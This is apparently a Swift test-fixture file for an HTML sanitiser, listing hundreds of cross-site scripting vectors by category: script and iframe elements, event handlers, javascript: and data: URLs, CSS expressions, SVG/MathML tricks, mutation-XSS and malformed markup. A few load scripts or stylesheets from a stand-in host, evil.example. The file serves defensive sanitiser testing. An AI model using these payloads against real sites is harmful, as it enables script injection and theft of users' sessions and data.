/// What has run a script in HTML that was let through.
///
/// Written anew after the kinds that OWASP's collection, that of mutations in browsers, and reports
/// of holes in other sanitisers describe. Each would call `alert` or load something.
enum ScriptVectors {
    static let all = elements + handlers + addresses + styles + foreign + mutations + broken + pages

    /// Elements that run or load.
    static let elements = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script\u{0C}type=module>alert(1)</script>", "<script/src=data:,alert(1)></script>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<object type=\"text/html\" data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"javascript:alert(1)\">", "<applet code=x archive=//evil.example></applet>",
        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
        "<portal src=\"javascript:alert(1)\"></portal>",
        "<fencedframe src=\"https://evil.example\"></fencedframe>",
    ]

    /// Attributes that run.
    static let handlers = [
        "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>",
        "<img src=x:alert(1) onerror=eval(src)>", "<IMG SRC=x OnErRoR = \"alert(1)\">",
        "<img \"\"\"><script>alert(1)</script>\">", "<img src=\"x`\" onerror=\"`alert(1)\">",
        "<p onmouseover=alert(1)>x</p>", "<a href=https://e.example onclick=alert(1)>x</a>",
        "<b/onpointerenter=alert(1)>x</b>", "<body onload=alert(1)>x", "<html onclick=alert(1)>x",
        "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
        "<video src=x onerror=alert(1)></video>", "<audio><source onerror=alert(1)></audio>",
        "<marquee onstart=alert(1)>x</marquee>", "<x-y tabindex=0 onfocus=alert(1)>x</x-y>",
        "<p contenteditable onbeforeinput=alert(1)>x</p>",
        "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=alert(1)>y</p>",
        "<td background=x onclick=alert(1)>x</td>", "<p on\u{0}click=alert(1)>x</p>",
        "<p title=\"a\"onclick=alert(1)>x</p>", "<p title='a' \"onclick=alert(1)\">x</p>",
        "<p onclick\u{A0}=alert(1)>x</p>", "<p =\"\" onclick=alert(1)>x</p>",
        "<th colspan='2\" onclick=\"alert(1)'>x</th>",
        "<ol start='1\" onclick=\"alert(1)'><li>x</ol>",
        "<img src=\"https://e.example/&quot; onerror=&quot;alert(1)\">",
        "<img src=\"https://e.example/a\" alt='\" onerror=\"alert(1)'>",
        "<img src=\"https://e.example/a\" alt=\"`` onerror=alert(1)\">",
    ]

    /// Addresses that run.
    static let addresses = [
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" \u{1}javascript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"java\u{0}script:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
        "<a href=\"&#0000106avascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"java&Tab;script&NewLine;:alert(1)\">x</a>",
        "<a href=\"javascript\u{3A}//%0Aalert(1)\">x</a>",
        "<a href=\"\u{A0}javascript:alert(1)\">x</a>",
        "<a href=\"\u{FEFF}javascript:alert(1)\">x</a>", "<a href=\"ｊavascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"livescript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"blob:https://e.example/1\">x</a>",
        "<a href=\"view-source:javascript:alert(1)\">x</a>",
        "<a href=\"filesystem:https://e.example/x\">x</a>", "<a href=\"//evil.example\">x</a>",
        "<a href=\"\\\\evil.example\">x</a>", "<a href=\"https:javascript:alert(1)\">x</a>",
        "<a xlink:href=\"javascript:alert(1)\">x</a>", "<a ping=\"javascript:alert(1)\">x</a>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<img srcset=\"javascript:alert(1) 1x\">",
        "<img src=https://e.example srcset=\"x,javascript:alert(1) 2x\">",
        "<img dynsrc=\"javascript:alert(1)\">", "<img lowsrc=\"javascript:alert(1)\">",
        "<img longdesc=\"javascript:alert(1)\" src=https://e.example/a>",
        "<picture><source srcset=\"javascript:alert(1)\"><img src=x></picture>",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<form id=f></form><button form=f formaction=\"javascript:alert(1)\">x</button>",
        "<isindex action=\"javascript:alert(1)\" type=image>",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        "<q cite=\"javascript:alert(1)\">x</q>", "<del cite=\"javascript:alert(1)\">x</del>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</table>",
        "<map name=m><area href=\"javascript:alert(1)\"></map><img usemap=#m src=https://e.example/a>",
        "<bgsound src=\"javascript:alert(1)\">", "<video poster=\"javascript:alert(1)\"></video>",
        "<track src=\"javascript:alert(1)\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\"><a href=x>x</a>",
        "<link rel=import href=\"data:text/html,x\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=prefetch href=//evil.example>",
    ]

    /// Styles, which some browsers ran and all load from.
    static let styles = [
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<p style=\"width:expression(alert(1))\">x</p>",
        "<p style=\"-moz-binding:url(//evil.example/x.xml#x)\">x</p>",
        "<p style=\"behavior:url(x.htc)\">x</p>",
        "<style>@import '//evil.example'</style>",
        "<style>*{background:url('javascript:alert(1)')}</style>",
        "<style><img src=x onerror=alert(1)></style>", "<style></style onload=alert(1)><p>x",
        "<p style=\"position:fixed;inset:0\"><a href=https://evil.example>x</a></p>",
        "<p class=tools data-font-step=1 id=main>x</p>",
    ]

    /// SVG and MathML, where other rules hold.
    static let foreign = [
        "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
        "<svg><script href=\"data:,alert(1)\"/></svg>", "<svg><script>alert&#40;1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=9>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><a><animate attributeName=href to=javascript:alert(1) /><text y=9>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=alert(1)></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
        "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>",
        "<svg><image href=\"javascript:alert(1)\"/></svg>",
        "<svg><style>@import 'javascript:alert(1)'</style></svg>",
        "<svg><discard onbegin=alert(1)>",
        "<svg><handler type=\"text/javascript\">alert(1)</handler></svg>",
        "<svg><title><script>alert(1)</script></title></svg>",
        "<svg><desc><p onclick=alert(1)>x</p></desc></svg>",
        "<math href=\"javascript:alert(1)\"><mi>x</mi></math>",
        "<math><maction actiontype=statusline xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
    ]

    /// What is harmless when it is read, and another thing when what was written is read again.
    static let mutations = [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
        "<math><style><img src=x onerror=alert(1)></style></math>",
        "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
        "<table><td><svg><desc><table><style></desc></svg><img src=x onerror=alert(1)></style>",
        "<svg><foreignObject><math><mi><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
        "<p><svg><title><p title=\"</title><img src=x onerror=alert(1)>\">",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
        "<select><style></select><img src=x onerror=alert(1)></style></select>",
        "<template><style></template><img src=x onerror=alert(1)></style></template>",
        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
        "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>",
        "<pre>\n\n&lt;img src=x onerror=alert(1)&gt;</pre>",
        "<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>",
        "<code>&lt;svg onload=alert(1)&gt;</code>",
        "<a href=https://e.example><table><a href=javascript:alert(1)>x</a></table></a>",
        "<p><a href=https://e.example><p><a href=javascript:alert(1)>x",
        "<b><i><p><b><script>alert(1)</script>",
        "<table><tr><script>alert(1)</script></tr></table>",
        "<table><caption><img src=x onerror=alert(1)>",
        "<dl><dt><dd><script>alert(1)</script></dl>", "<li><li><svg><li onclick=alert(1)>x",
        "<h2><h3><h2><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    ]

    /// Markup that is none, and what readers of it make of it.
    static let broken = [
        "<<script>alert(1);//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>", "<script>alert(1)//", "<img src=x onerror=alert(1)//",
        "<img src=x onerror=alert(1) <p>x</p>", "<!--><script>alert(1)</script>-->",
        "<!---><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>--!>",
        "<!-- --!><img src=x onerror=alert(1)> -->", "<!><img src=x onerror=alert(1)>",
        "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
        "<?php <img src=x onerror=alert(1)> ?>",
        "</p <img src=x onerror=alert(1)>>", "</br onclick=alert(1)>",
        "</><script>alert(1)</script>",
        "<\u{0}script>alert(1)</script>", "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
        "<ſcript>alert(1)</ſcript>", "＜script＞alert(1)＜/script＞",
        "<script\u{2028}>alert(1)</script>",
        "\u{FEFF}<script>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\u{1B}$B<script>alert(1)</script>\u{1B}(B", "<p title=<script>alert(1)</script>>x</p>",
        "<p title=\"<img src=x onerror=alert(1)>\">x</p>",
        "<a href=\"https://e.example/\"\"onclick=alert(1)\">x</a>",
        "<br clear=\"&{alert(1)}\">", "<hr size=\"1\" onclick=\"alert(1)\">",
        "<img src='x'onerror='alert(1)'>",
    ]

    /// What would end a part of the page it stands in.
    static let pages = [
        "</script><script>alert(1)</script>", "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>", "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "\" onclick=\"alert(1)", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
        "</article></main></body></html><script>alert(1)</script>",
        "</time><script>alert(1)</script>",
        "<!--<script>", "<!--<script></script>", "\u{2028}alert(1)\u{2029}", "{{{body}}}",
        "{{> article}}",
        "\\u003c/script>\\u003cscript>alert(1)", "&lt;/script&gt;&lt;script&gt;alert(1)",
        "javascript:alert(1)", "</textarea></template><script>alert(1)</script>",
    ]
}
